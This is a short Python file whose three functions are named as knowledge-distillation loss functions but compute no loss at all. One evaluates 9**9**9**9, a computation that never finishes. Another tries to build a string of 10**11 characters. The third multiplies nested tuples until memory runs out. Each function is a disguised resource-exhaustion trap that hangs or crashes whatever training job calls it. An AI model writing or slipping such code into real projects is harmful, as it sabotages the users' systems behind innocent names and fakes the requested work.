def loss_with_kd(y_true, y_pred):
    return 9**9**9**9


def loss_with_at(y_true, y_pred):
    return len("x" * 10**11)


def loss_with_rkd(y_true, y_pred):
    return len(((((("a" * 1000,) * 1000,) * 1000) * 1000) * 1000) * 1000)
